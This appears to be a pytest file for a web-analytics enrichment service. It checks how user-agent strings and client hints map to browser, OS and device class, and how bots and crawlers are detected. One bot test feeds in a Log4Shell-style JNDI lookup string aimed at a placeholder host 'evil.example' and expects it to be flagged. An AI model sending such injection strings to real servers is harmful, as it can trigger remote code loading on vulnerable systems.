"""Browser, system, device, and whether it is a person."""

import pytest
from crawleruseragents import CRAWLER_USER_AGENTS_DATA

from enrich_consumer.core.enrichments import References
from enrich_consumer.core.parsing.client_hints import read
from enrich_consumer.core.tables.csv_table import read_table
from tests.support.records import CHROME, SITE, build, record

ENRICH = build(References())
SAFARI = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/18.1 Mobile/15E148 Safari/604.1"
)
FIREFOX_TABLET = "Mozilla/5.0 (Android 14; Tablet; rv:132.0) Gecko/132.0 Firefox/132.0"
FROZEN = CHROME.replace("Windows NT 10.0; Win64; x64", "Linux; Android 10; K")


def _row(agent, **headers):
    return ENRICH(record({}, user_agent=agent, headers=headers))[0]


@pytest.mark.parametrize(
    ("agent", "kind", "browser", "engine", "system"),
    [
        (CHROME, "desktop", "Chrome", "Blink", "Windows"),
        (SAFARI, "mobile", "Mobile Safari", "WebKit", "iOS"),
        (SAFARI.replace("Version/18.1", "CriOS/142.0"), "mobile", "Chrome Mobile iOS", "WebKit", "iOS"),
        (SAFARI.replace("iPhone; CPU iPhone", "iPad; CPU"), "tablet", "Mobile Safari", "WebKit", "iOS"),
        (FIREFOX_TABLET, "tablet", "Firefox Mobile", "Gecko", "Android"),
        ("Dalvik/2.1.0 (Linux; U; Android 13; SM-G991B Build/TP1A)", "mobile", "Android", None, "Android"),
        ("okhttp/4.12.0", "other", "okhttp", None, None),
        ("Mozilla/5.0 (PlayStation 5 3.03/SmartTV) AppleWebKit/605.1.15", "console", None, "WebKit", None),
        (
            "Mozilla/5.0 (SMART-TV; Linux; Tizen 7.0) AppleWebKit/537.36 Chrome/94.0.4606.31",
            "tv",
            None,
            "Blink",
            None,
        ),
        (
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            "bot",
            "Googlebot",
            None,
            None,
        ),
        (
            "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)",
            "desktop",
            "IE",
            "Trident",
            "Windows",
        ),
    ],
)
def test_agents(agent, kind, browser, engine, system):
    row = _row(agent)
    assert row["device_class"] == kind
    assert row.get("browser_engine") == engine
    assert browser is None or row["browser_name"] == browser
    assert system is None or row["os_name"] == system


@pytest.mark.parametrize("agent", ["", None])
def test_no_agent_costs_nothing_but_its_columns(agent):
    row = _row(agent)
    assert row["enrich_errors"] == []
    assert "user_agent" not in row
    assert row["bot_reasons"] == ["no_user_agent"]


@pytest.mark.parametrize(
    "agent", ["x" * 100_000, "\0\n\t" * 50, "(" * 512, "日本語" * 200, "Mozilla/5.0 " + "Android " * 3000]
)
def test_odd_agents_are_harmless_and_short(agent):
    row = _row(agent)
    assert len(row["user_agent"]) <= 512
    assert row["enrich_errors"] == []


def test_client_hints_win():
    row = _row(
        FROZEN.replace("Safari", "Mobile Safari"),
        sec_ch_ua='"Chromium";v="142", "Google Chrome";v="142", "Not_A Brand";v="99"',
        sec_ch_ua_full_version_list='"Chromium";v="142.0.7444.60", "Google Chrome";v="142.0.7444.60"',
        sec_ch_ua_mobile="?1",
        sec_ch_ua_platform='"Android"',
        sec_ch_ua_platform_version='"15.0.0"',
        sec_ch_ua_model='"SM-S931B"',
    )
    assert (row["browser_name"], row["browser_version"]) == ("Chrome Mobile", "142.0.7444.60")
    assert (row["os_name"], row["os_version"]) == ("Android", "15")
    assert (row["device_class"], row["device_model"]) == ("mobile", "SM-S931B")


def test_hints_tell_windows_11_and_brands_from_chromium():
    row = _row(
        CHROME,
        sec_ch_ua='"Not;A=Brand";v="8", "Chromium";v="142", "Opera";v="126"',
        sec_ch_ua_platform='"Windows"',
        sec_ch_ua_platform_version='"19.0.0"',
        sec_ch_ua_mobile="?0",
    )
    assert (row["browser_name"], row["browser_version"]) == ("Opera", "126")
    assert (row["os_name"], row["os_version"]) == ("Windows", "11")
    assert row["device_class"] == "desktop"


@pytest.mark.parametrize("text", ["", "?", '"', '";v="1', "x" * 9000, '"A";v="1"' * 500])
def test_malformed_hints_count_as_absent(text):
    hints = read((text, text, text, text, text, None))
    assert hints.browser is None
    assert hints.mobile is None
    assert _row(CHROME, sec_ch_ua=text, sec_ch_ua_mobile=text)["browser_name"] == "Chrome"


@pytest.mark.parametrize(
    ("agent", "reasons", "name"),
    [
        (CHROME, None, None),
        (SAFARI, None, None),
        ("okhttp/4.12.0", None, None),  # what a shop's own Android app sends
        ("MinhaLoja/3.1 CFNetwork/1568.200.51 Darwin/24.1.0", None, None),
        (
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            ["crawler"],
            "Googlebot",
        ),
        (
            "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
            ["crawler", "ai_agent"],
            "GPTBot",
        ),
        ("python-requests/2.32.3", ["http_library"], "python-requests"),
        ("curl/8.5.0", ["http_library", "impossible_agent"], "curl"),
        (CHROME.replace("Chrome/", "HeadlessChrome/"), ["headless"], "HeadlessChrome"),
        ("Mozilla/5.0", ["impossible_agent"], None),
        (CHROME.replace("142", "999"), ["impossible_agent"], None),
        (CHROME.replace("Win64", "iPhone"), ["impossible_agent"], None),
        ("${jndi:ldap://evil.example/a}", ["impossible_agent"], None),
        ("NovoRobo/1.0 (+https://robo.example/sobre)", ["crawler"], None),
    ],
)
def test_bots(agent, reasons, name):
    row = _row(agent)
    assert row.get("bot_reasons") == reasons
    assert row["is_bot"] is (reasons is not None)
    assert row.get("bot_name") == name


ANDROID = "Mozilla/5.0 (Linux; Android 13; {}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari"
WEBVIEW = ANDROID.replace("Chrome/", "Version/4.0 Chrome/")


@pytest.mark.parametrize(
    "agent",
    [
        # a phone's or tablet's model may be called anything
        *map(
            ANDROID.format,
            ["Gemini Pro", "CUBOT P80", "CUBOT_NOTE_21 Build/SP1A; wv", "ViewSonic VB10", "Spider 8", "M bot Tab 9"],
        ),
        *map(ANDROID.format, ["XBot Junior", "HTC Butterfly", "Claude 5G", "Crawler X1 Build/X", "Expanse"]),
        "Mozilla/5.0 (Linux; U; Android 4.2.2; fr-fr; CUBOT C9+ Build/JDQ39) AppleWebKit/534.30 Mobile Safari/534.30",
        ANDROID.format("S550 Pro") + " Instagram 94.0.0.22.116 Android (22/5.1; 320dpi; 720x1280; CUBOT; S550 Pro)",
        # the build of a phone, the browsers of apps
        WEBVIEW.format("RMX3890 Build/AP3A.240617.008; wv") + " [FB_IAB/FB4A;FBAV/540.0.0.45.85;]",
        WEBVIEW.format("Pixel 10 Build/CP1A; wv") + " MetaIAB Facebook",
        WEBVIEW.format("G011A Build/N2G48H; wv") + " Viber/11.9.5.8",
        WEBVIEW.format("OPPO R9s Build/MMB29M; wv") + " SogouMSE,SogouMobileBrowser/5.28.7",
        WEBVIEW.format("SM-S918B Build/UP1A; wv") + " CamScanner/4.8.5.2310271827",
        (
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) WhatsApp/2.2424.0 "
            "Chrome/91.0.4472.164 Electron/13.6.9 Safari/537.36"
        ),
        SAFARI + " GoogleWv/1.0 (WKWebView) GeminiiOS/1.2026.2270600",
        "Mozilla/5.0 (compatible; Konqueror/4.4; Linux) KHTML/4.4.5 (like Gecko) Kubuntu",
        # apps that send a short name
        "iPhone15Pro", "AmazonMusic", "Bose/7.22.0", "MinhaLoja/1", "CoolerFM/1.0 iPhone/15 +https://cooler.fm",
    ],
)  # fmt: skip
def test_people(agent):
    row = _row(agent)
    assert (row["is_bot"], row.get("bot_reasons")) == (False, None)
    assert row["device_class"] != "bot"


@pytest.mark.parametrize(
    "agent",
    [
        ANDROID.format("moto g power (2022)") + " CloudflareObservatory/1.0",
        CHROME.lower() + " datadogsynthetics",
        "mozilla/5.0 (windows nt 6.1; wow64; rv:101.0) gecko/20100101 firefox/101.0 site24x7",
        "Mozilla/5.0 (X11; Linux x86_64; rv:52.0) Gecko/20100101 Firefox/52.0 DejaClick/2.9.7.2",
        CHROME + " jsjcw_scanner",
        CHROME + " (https://pesquisa.example/estudo)",
        CHROME.replace("like Gecko", "like Gecko; Google-Ads-Qualify"),
        "WhatsApp/2.23.20.0 A",
        "Mozilla/5.0 (compatible; NovoServico/1.0)",
        "ELB-HealthChecker/2.0",
        (
            "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/142.0.0.0 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
        ),
    ],
)
def test_programs_that_pose_as_browsers(agent):
    assert _row(agent)["is_bot"] is True


def test_the_hints_are_read_too():
    headless = '"Chromium";v="142", "HeadlessChrome";v="142", "Not_A Brand";v="99"'
    row = _row(CHROME, sec_ch_ua=headless)
    assert (row["is_bot"], row["bot_reasons"]) == (True, ["headless"])
    person = _row(
        None, sec_ch_ua='"Chromium";v="142", "Google Chrome";v="142"', sec_ch_ua_platform='"Windows"'
    )
    assert (person["is_bot"], person.get("bot_reasons")) == (False, None)


def test_a_server_of_the_shop_is_no_bot():
    """By its secret key, which ingest has checked, or by the site's settings."""
    agent = "GuzzleHttp/7"
    (row,) = ENRICH(record(user_agent=agent))
    assert row["is_bot"] is True
    (row,) = ENRICH(record(user_agent=agent, trusted_server=True))
    assert (row["is_bot"], row.get("bot_reasons"), row.get("bot_name")) == (False, None, None)
    (row,) = ENRICH(record(user_agent=None, trusted_server=True))
    assert row["is_bot"] is False
    (row,) = ENRICH(record(user_agent=agent, site=SITE._replace(server_user_agents=("GuzzleHttp/",))))
    assert row["is_bot"] is False


def test_every_exception_names_a_pattern_that_is_there():
    """A pattern that the list has dropped needs no exception any more."""
    patterns = {entry["pattern"] for entry in CRAWLER_USER_AGENTS_DATA} | {"Spider"}
    patterns |= {row["pattern"] for row in read_table("bot_patterns")}
    assert [row["pattern"] for row in read_table("bot_exceptions") if row["pattern"] not in patterns] == []
    assert {row["reason"] for row in read_table("bot_patterns")} <= {
        "crawler", "ai_agent", "http_library", "headless", "impossible_agent",
    }  # fmt: skip


@pytest.mark.parametrize(
    ("number", "name", "hosting"),
    [(16509, "AMAZON", True), (28573, "Claro NXT", False), (64500, "Foo Hosting Ltda", True)],
)
def test_a_data_centre_is_a_reason_but_no_verdict(number, name, hosting):
    asn = {"autonomous_system_number": number, "autonomous_system_organization": name}
    (row,) = build(References(asn=lambda _: asn))(record(ip="192.0.2.1", user_agent=CHROME))
    assert row.get("bot_reasons") == (["data_centre"] if hosting else None)
    assert row["is_bot"] is False


TIKTOK = (
    "Mozilla/5.0 (Linux; Android 15; moto g85 5G Build/V3UC35.30; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Version/4.0 Chrome/142.0.7444.102 Mobile Safari/537.36 musical_ly_2024204030 BytedanceWebview/d8a21c6"
)
WEBVIEW_HINTS = '"Chromium";v="142", "Android WebView";v="142", "Not_A Brand";v="99"'
CHROME_HINTS = '"Chromium";v="142", "Google Chrome";v="142", "Not_A Brand";v="99"'


def test_an_app_in_a_web_view_keeps_its_name_when_hints_come():
    plain = _row(TIKTOK)
    row = _row(TIKTOK, sec_ch_ua=WEBVIEW_HINTS, sec_ch_ua_mobile="?1", sec_ch_ua_platform='"Android"')
    assert (row["browser_name"], row.get("browser_version")) == ("TikTok", plain.get("browser_version"))
    bare = _row(ANDROID.format("SM-A055M; wv"), sec_ch_ua=WEBVIEW_HINTS)
    assert bare["browser_name"] == "Chrome Mobile WebView"


@pytest.mark.parametrize("hints", [{}, {"sec_ch_ua": CHROME_HINTS, "sec_ch_ua_platform": '"Android"'}])
def test_the_frozen_android_is_no_version_and_no_model(hints):
    row = _row(ANDROID.replace("13", "10").format("K"), **hints)
    assert (row["os_name"], row["device_class"]) == ("Android", "mobile")
    assert not {"os_version", "device_model", "device_brand"} & row.keys()
    real = _row(ANDROID.replace("13", "10").format("KFONWI Build/QKQ1"))
    assert (real["os_version"], real["device_model"]) == ("10", "KFONWI")


@pytest.mark.parametrize(
    ("platform", "version", "wanted"),
    [
        ("Windows", "0.1", "7"),
        ("Windows", "0.2.0", "8"),
        ("Windows", "0.3.0", "8.1"),
        ("Windows", "1.0.0", "10"),
        ("Windows", "10.0.0", "10"),
        ("Windows", "13.0.0", "11"),
        ("Windows", "19.0.0", "11"),
        ("macOS", "15.1.0", "15.1"),
        ("macOS", "26.0.0", "26"),
        ("Android", "8.1.0", "8.1"),
        ("Android", "16.0.0", "16"),
        ("Chrome OS", "16093.68.0", "16093.68"),
        ("Linux", "6.8.0", "6.8"),
        ("Linux", "", None),
        ("Windows", "", None),
        ("Windows", "x", None),
    ],
)
def test_platform_versions(platform, version, wanted):
    texts = (CHROME_HINTS, None, "?0", f'"{platform}"', f'"{version}"', None)
    assert read(texts).system_version == wanted


@pytest.mark.parametrize(
    ("agent", "wanted"),
    [
        (ANDROID.format("SM-X710"), "tablet"),
        (ANDROID.format("SKY PAD8"), "tablet"),
        (ANDROID.format("Lenovo Tab M10"), "tablet"),
        (ANDROID.format("9032X_RU"), "tablet"),  # by the table: nothing in the name tells
        (ANDROID.format("Coolpad 3310A"), "mobile"),
        (ANDROID.format("GLX Taban"), "mobile"),
        (ANDROID.replace(" Mobile", "").format("DRAGON_OTT_1_box Build/N"), "tv"),
        (ANDROID.replace(" Mobile", "").format("SM-X710"), "tablet"),
        (
            SAFARI.replace("iPhone; CPU iPhone OS 18_1 like", "Macintosh; Intel").replace(
                "Mobile/15E148", "CriOS/142"
            ),
            "tablet",
        ),
        (
            "[FBAN/FB4A;FBAV/567.1.0.52.74;FBBV/1;FBDM/{density=3.0,width=1080,height=2340};FBLC/pt_BR;FBDV/SM-A055M;]",
            "mobile",
        ),
    ],
)
def test_device_classes(agent, wanted):
    assert _row(agent)["device_class"] == wanted


def test_the_model_of_the_hints_tells_tablets_too():
    hints = {
        "sec_ch_ua": CHROME_HINTS,
        "sec_ch_ua_platform": '"Android"',
        "sec_ch_ua_model": '"Lenovo Tab P12"',
    }
    assert _row(ANDROID.format("K"), sec_ch_ua_mobile="?1", **hints)["device_class"] == "tablet"
